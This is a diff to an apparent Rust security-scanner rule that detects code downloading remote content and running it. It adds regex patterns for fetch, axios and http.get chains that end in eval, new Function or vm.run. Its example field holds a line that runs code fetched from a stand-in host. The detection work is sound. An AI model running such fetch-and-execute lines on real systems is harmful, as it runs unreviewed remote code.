@@ -166,10 +166,10 @@ pub(super) const RULES: &[Rule] = &[
         help: "do not run it; the code belongs in the skill, where it can be reviewed",
         scope: Code,
         matcher: Line(pattern(
-            &["exec", "eval"],
+            &["exec", "eval", "new function", "vm.run"],
             &[
                 r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[^;\n]{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request)",
-                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(",
+                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(|\b(fetch|axios\.get|got|https?\.get)\s*\([^;\n]{0,200}\.?(then|on)\([^;\n]{0,160}([^.\w]eval|new\s+Function|vm\.run\w+)\s*\(",
             ],
         )),
         example: example("scripts/a.py", "exec(requests.get(\"https://code.example/main.py\").text)\n"),
